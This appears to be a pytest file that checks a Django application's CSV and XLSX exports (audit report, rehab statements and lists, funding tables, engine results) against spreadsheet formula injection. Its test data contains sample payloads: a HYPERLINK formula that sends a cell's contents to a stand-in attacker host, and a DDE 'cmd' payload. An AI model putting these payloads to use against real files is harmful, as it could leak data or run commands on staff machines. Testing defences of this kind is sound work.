"""Every CSV and XLSX export writes formula-like text as text (issue 19, item 7): a
client or user name such as ``=HYPERLINK(...)`` cannot run when staff open the file
in a spreadsheet; amounts stay numbers; CSV downloads start with a UTF-8 BOM.

Exports covered: the audit access report (CSV), the rehab monthly statement (CSV,
XLSX), the rehab Kela and state lists (CSV), the funding and statistics tables
(``silta.funding.exports.table_response``: CSV, XLSX; the funding radar end to end
is in tests/funding/test_export_formulas.py) and the engine's result files (CSV)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import uuid
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import polars as pl
import pytest
from django.test import Client as HttpClient
from openpyxl import load_workbook
from tests import factories

from silta.accounts.roles import Role
from silta.core.spreadsheets import CSV_BOM, csv_cell, csv_writer
from silta.engine.io import write_result_csv
from silta.funding.exports import table_response
from silta.rehab import exports as rehab_exports
from silta.rehab.selectors import ListRow, MonthList

EVIL = '=HYPERLINK("https://attacker.example/?d="&A1,"Click")'
TRIGGERS = [EVIL, "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1"]


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(CSV_BOM.encode()), "CSV downloads start with a UTF-8 BOM"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _sheet_cells(content: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows()]


# --- the helper --------------------------------------------------------------------


@pytest.mark.parametrize("value", TRIGGERS)
def test_formula_like_text_gets_an_apostrophe(value) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Virtanen", "", "'already quoted", Decimal("-12.50"), -3, 2.5, dt.date(2025, 1, 1)]
)
def test_other_values_are_written_as_they_are(value) -> None:
    assert csv_cell(value) == value
    assert csv_cell(None) == ""


def test_csv_writer_round_trip() -> None:
    out = io.StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerow(["name", "amount"])
    writer.writerow([EVIL, Decimal("-5.00")])
    assert out.getvalue().startswith(CSV_BOM)
    rows = list(csv.reader(io.StringIO(out.getvalue().lstrip(CSV_BOM))))
    assert rows == [["name", "amount"], ["'" + EVIL, "-5.00"]]


# --- the audit access report (CSV) -------------------------------------------------


@pytest.mark.django_db
def test_audit_access_report_csv(region) -> None:
    # given a reader whose user name looks like a formula (an identity provider or an
    # administrator may create one) read the client
    org = factories.OrganisationFactory()
    reader = factories.staff(Role.CASE_WORKER, org, first_name="@SUM(1+1)", last_name="")
    admin = factories.staff(Role.ADMINISTRATOR)
    c = factories.client(region["272"], organisation=org)
    http = HttpClient()
    http.force_login(reader)
    assert http.get(f"/clients/{c.pk}/").status_code == 200
    http.force_login(admin)
    found = http.post("/audit/clients/", {"personal_id": c.personal_id})
    response = http.get(found["Location"], {"format": "csv"})
    rows = _csv_rows(response.content)
    # the client's letter as a table, in the client's language
    assert rows[0] == ["Milloin", "Kuka", "Organisaatio", "Roolissa", "Mitkä tiedot", "Miksi"]
    # the client page and its case-work summary: two reads, each written as text
    names = [r[1] for r in rows[1:] if "SUM" in r[1]]
    assert names and set(names) == {"'@SUM(1+1)"}


# --- rehab: monthly statement (CSV, XLSX) and the Kela/state lists (CSV) -------------


def _statement() -> SimpleNamespace:
    org = SimpleNamespace(name="+Palveluntuottaja Oy")
    version = SimpleNamespace(number=1, contract=SimpleNamespace(reference="-SOP-1"))
    line = SimpleNamespace(
        kind="attendance",
        client_name=f"{EVIL}, Pekka",
        contract_version=version,
        days=4,
        unit_price=Decimal("30.00"),
        amount=Decimal("-120.00"),  # a correction: a negative amount stays a number
        detail="@note",
        corrects_number="",
    )
    return SimpleNamespace(
        provider=SimpleNamespace(organisation=org, business_id="3980000-2"),
        organiser=SimpleNamespace(name="Soite"),
        month=dt.date(2025, 2, 1),
        is_approved=True,
        status="approved",
        statement=SimpleNamespace(number_label="00001"),
        lines=[line],
        participant_days=4,
        total_eur=Decimal("-120.00"),
    )


def test_rehab_statement_csv() -> None:
    rows = _csv_rows(rehab_exports.statement_csv([_statement()]))  # type: ignore[list-item]
    header, line = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert header[0] == "provider"
    assert line["client"] == f"'{EVIL}, Pekka"
    assert line["provider"] == "'+Palveluntuottaja Oy"
    assert line["contract"] == "'-SOP-1" and line["detail"] == "'@note"
    assert line["amount_eur"] == "-120.00"


def test_rehab_statement_xlsx() -> None:
    cells = _sheet_cells(rehab_exports.statement_xlsx([_statement()]))  # type: ignore[list-item]
    header = [c.value for c in cells[0]]
    line = dict(zip(header, cells[1], strict=True))
    client = line["client"]
    assert client.value == f"{EVIL}, Pekka"  # type: ignore[union-attr]
    assert client.data_type == "s" and client.quotePrefix  # type: ignore[union-attr]
    assert line["amount_eur"].value == -120.0  # type: ignore[union-attr]
    assert line["amount_eur"].data_type == "n"  # type: ignore[union-attr]


def test_rehab_month_list_csv() -> None:
    data = MonthList(
        month=dt.date(2025, 2, 1),
        rows=[
            ListRow(
                client_id=uuid.uuid4(),
                client_name=EVIL,
                personal_id="010190-123A",
                provider="=cmd|' /C calc'!A0",
                days=8,
                eligible_days=4,
                amount=Decimal("36.00"),
            )
        ],
        rate=Decimal("9.00"),
        verified=True,
        source="",
    )
    rows = _csv_rows(rehab_exports.month_list_csv(data))
    assert rows[1] == [
        "2025-02",
        "010190-123A",
        "'" + EVIL,
        "'=cmd|' /C calc'!A0",
        "8",
        "4",
        "9.00",
        "36.00",
        "0",
        "0",
        "0",
        "0",
    ]


# --- funding and statistics tables (CSV, XLSX) -------------------------------------


def test_funding_and_statistics_table_csv() -> None:
    response = table_response(
        "radar", ["name", "amount", "since"], [[EVIL, Decimal("-1.50"), dt.date(2025, 1, 1)]], "csv"
    )
    assert _csv_rows(response.content)[1] == ["'" + EVIL, "-1.50", "2025-01-01"]


def test_funding_and_statistics_table_xlsx() -> None:
    response = table_response(
        "radar",
        ["name", "amount", "since"],
        [[EVIL, Decimal("-1.50"), dt.date(2025, 1, 1)]],
        "xlsx",
    )
    name, amount, _since = _sheet_cells(response.content)[1]
    assert name.value == EVIL and name.data_type == "s" and name.quotePrefix  # type: ignore[union-attr]
    assert amount.value == -1.5 and amount.data_type == "n"  # type: ignore[union-attr]


# --- the engine's result files (CSV, written by `silta funding ... --out`) ----------


def test_engine_result_csv(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {"person_id": [EVIL, "010190-123A"], "days": [-3, 5]},
        schema={"person_id": pl.String, "days": pl.Int64},
    )
    out = tmp_path / "result.csv"
    write_result_csv(frame, out)
    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert rows == [["person_id", "days"], ["'" + EVIL, "-3"], ["010190-123A", "5"]]
